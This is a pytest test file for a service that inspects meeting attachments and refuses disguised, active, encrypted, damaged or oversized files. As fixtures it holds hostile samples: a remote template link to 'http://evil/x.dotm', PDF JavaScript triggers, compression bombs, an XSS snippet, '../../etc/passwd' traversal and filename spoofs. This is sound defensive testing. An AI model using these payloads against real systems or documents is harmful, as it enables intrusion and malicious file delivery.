"""Files are what they say they are, or they stay outside."""

import io
import random
import zipfile
import zlib

import pytest

from services.meetings.attachments import inspection
from services.meetings.domain.attachment import LONGEST_NAME, safe_name
from shared.errors import Unprocessable
from tests.support import files

_ALL = frozenset(inspection.KINDS)
_WORD = inspection.KINDS["docx"].media_type
_SOUND = [
    ("pdf", files.pdf(), "bien-ban.pdf", "application/pdf"),
    ("docx", files.docx(), "Biên bản.DOCX", _WORD),
    ("xlsx", files.xlsx(), "diem.xlsx", ""),
    ("png", files.png(), "anh.png", "image/png"),
    ("jpg", files.jpg(), "anh.jpeg", "image/jpeg; charset=binary"),
]


def _with_objects(packed: bytes) -> bytes:
    stream = zlib.compress(packed)
    return files.pdf() + b"\n9 0 obj << /Type /ObjStm >> stream\n" + stream + b"\nendstream\n%%EOF"


def _rule(content: bytes, filename: str, claimed: str = "", allowed: frozenset[str] = _ALL) -> str:
    with pytest.raises(Unprocessable) as refused:
        inspection.inspect(content, filename, claimed, allowed)
    (fault,) = refused.value.faults
    assert fault.field == "file"
    assert fault.message.vi != fault.message.en
    assert fault.source
    return fault.rule


@pytest.mark.parametrize(("kind", "content", "filename", "claimed"), _SOUND)
def test_a_sound_file_is_known_by_its_content(kind: str, content: bytes, filename: str, claimed: str) -> None:
    assert inspection.inspect(content, filename, claimed, _ALL) == kind


@pytest.mark.parametrize(("kind", "content", "filename", "claimed"), _SOUND)
def test_a_kind_that_is_not_let_in_is_refused(kind: str, content: bytes, filename: str, claimed: str) -> None:
    assert _rule(content, filename, claimed, _ALL - {kind}) == "file-type"


@pytest.mark.parametrize(("kind", "content", "filename", "claimed"), _SOUND)
def test_a_name_or_type_that_says_otherwise_is_refused(kind: str, content: bytes, filename: str, claimed: str) -> None:
    assert _rule(content, f"{filename}.exe", claimed) == "file-not-what-it-says"
    assert _rule(content, filename, "text/html") == "file-not-what-it-says"
    other = "pdf" if kind != "pdf" else "png"
    assert _rule(content, f"x.{other}") == "file-not-what-it-says"


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\0" + bytes(200),
        b"<html><script>alert(1)</script></html>",
        b"PK\x03\x04",
        b"",
        b"x",
        b"%PDF",
        files.png()[1:],
    ],
)
def test_what_is_no_plain_document_or_picture_is_refused(content: bytes) -> None:
    for name in ("a.pdf", "a.docx", "a.png", "a.exe", "a"):
        assert _rule(content, name) in ("file-type", "file-damaged")


@pytest.mark.parametrize(
    ("content", "name", "rule"),
    [
        (files.docx(word_vbaProject__bin=b"x"), "a.docx", "file-active"),
        (files.docx(word_activeX_activeX1__xml=b"x"), "a.docx", "file-active"),
        (files.docx(word_embeddings_oleObject1__bin=b"x"), "a.docx", "file-active"),
        (
            files.docx(
                **{
                    "word__rels_settings__xml__rels": b'<Relationship Type="http://x/attachedTemplate" '
                    b'Target="http://evil/x.dotm" TargetMode="External"/>'
                }
            ),
            "a.docx",
            "file-active",
        ),
        (files.docx(word_media_bomb__bin=bytes(40_000_000)), "a.docx", "file-bomb"),
        (files.png_of(40_000, 40_000), "a.png", "file-bomb"),
        (files.jpg(60_000, 60_000), "a.jpg", "file-bomb"),
        (files.pdf()[:-200], "a.pdf", "file-damaged"),
        (files.pdf() + b"\n/OpenAction << /S /JavaScript /JS (app.alert) >>\n%%EOF", "a.pdf", "file-active"),
        (_with_objects(b"<< /S /JavaScript >>"), "a.pdf", "file-active"),
        (files.pdf() + b"\n<< /S /Java#53cript >>\n%%EOF", "a.pdf", "file-active"),
        (files.pdf() + b"\ntrailer << /Encrypt 9 0 R >>\n%%EOF", "a.pdf", "file-encrypted"),
        (files.pdf() + b"\n9 0 obj << /Type /ObjStm >> stream\nnot packed\nendstream\n%%EOF", "a.pdf", "file-damaged"),
        (files.docx()[:-100], "a.docx", "file-type"),
        (files.png()[:40], "a.png", "file-damaged"),
        (files.jpg()[:10], "a.jpg", "file-damaged"),
    ],
)
def test_what_could_act_or_is_broken_is_refused(content: bytes, name: str, rule: str) -> None:
    assert _rule(content, name) == rule


def test_a_document_with_macros_is_no_plain_document_whatever_its_name() -> None:
    plain = files.docx()
    declared = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    assert _rule(files.packed(plain, {}, instead={"[Content_Types].xml": declared}), "a.docx") == "file-type"


def test_a_page_description_whose_streams_unpack_to_too_much_together_is_a_bomb() -> None:
    packed = zlib.compress(bytes(4 * 2**20))
    stream = b"\n9 0 obj << /Type /ObjStm >> stream\n" + packed + b"\nendstream"
    assert len(stream) < 10_000
    assert _rule(files.pdf() + 8 * stream + b"\n%%EOF", "a.pdf") == "file-bomb"


@pytest.mark.parametrize(
    "head", [b"<< /Type /Obj#53tm >>", b"<< /Type /ObjStm /Filter /FlateDecode /X (" + b" " * 2000 + b") >>"]
)
def test_packed_objects_are_found_however_their_stream_is_described(head: bytes) -> None:
    stream = b"\n9 0 obj " + head + b" stream\n" + zlib.compress(b"<< /S /JavaScript >>") + b"\nendstream\n%%EOF"
    assert _rule(files.pdf() + stream, "a.pdf") == "file-active"


def _related(relations: bytes) -> bytes:
    made = io.BytesIO(files.docx())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/_rels/more.xml.rels", relations)
    return made.getvalue()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("mode", ["External", "&#69;xternal"])
def test_a_template_fetched_from_outside_is_found_in_any_writing(encoding: str, mode: str) -> None:
    told = f'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="{mode}"/>'
    assert _rule(_related(told.encode(encoding)), "a.docx") == "file-active"


def test_a_link_outside_is_no_frame_whatever_its_address_says() -> None:
    told = b'<Relationship Type="http://x/hyperlink" Target="https://x/frame" TargetMode="External"/>'
    assert inspection.inspect(_related(told), "a.docx", "", _ALL) == "docx"


def test_relations_are_read_once_however_they_are_written() -> None:
    told = random.Random(1).randbytes(20_000).hex().encode() + b"frame" * 150_000
    assert inspection.inspect(_related(told), "a.docx", "", _ALL) == "docx"
    assert _rule(_related(told + random.Random(2).randbytes(300_000).hex().encode()), "a.docx") == "file-bomb"


def test_a_picture_may_hold_bytes_that_look_like_a_script() -> None:
    content = files.pdf() + b"\n9 0 obj << /Type /XObject >> stream\n\x01/JS /JavaScript /Launch\nendstream\n%%EOF"
    assert inspection.inspect(content, "a.pdf", "", _ALL) == "pdf"
    assert inspection.inspect(_with_objects(b"<< /Type /Page >>"), "a.pdf", "", _ALL) == "pdf"


def test_a_member_longer_than_it_says_is_found_out() -> None:
    content = bytearray(files.docx(word_media_x__bin=bytes(range(256)) * 40))
    name = b"word/media/x.bin"
    central = content.rindex(name) - 46
    content[central + 24 : central + 28] = (10).to_bytes(4, "little")
    assert _rule(bytes(content), "a.docx") == "file-damaged"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\Biên bản tháng 6.pdf", "Biên bản tháng 6.pdf"),
        ('a"b\r\nX: y.pdf', "a_b__X_ y.pdf"),
        ("\u202egpj.exe.pdf", "_gpj.exe.pdf"),
        ("...", ""),
    ],
)
def test_a_name_is_kept_without_what_could_hurt(given: str, kept: str) -> None:
    assert safe_name(given) == kept


def test_a_long_name_keeps_its_ending() -> None:
    kept = safe_name("a" * 500 + ".pdf")
    assert len(kept) == LONGEST_NAME
    assert kept.endswith(".pdf")
